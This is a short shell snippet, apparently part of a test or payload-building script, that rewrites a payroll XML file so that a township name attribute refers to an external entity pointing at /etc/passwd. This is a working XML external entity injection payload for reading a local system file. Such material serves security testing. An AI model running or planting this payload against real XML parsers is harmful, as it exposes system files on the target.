# An external entity naming a local file, used in the township's name.
{ sed -n 1p "$PAYROLL_XML"; echo '<!DOCTYPE payroll [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
  sed -e 1d -e 's/name="岭南街道"/name="\&x;"/' "$PAYROLL_XML"; } >"$OUT"
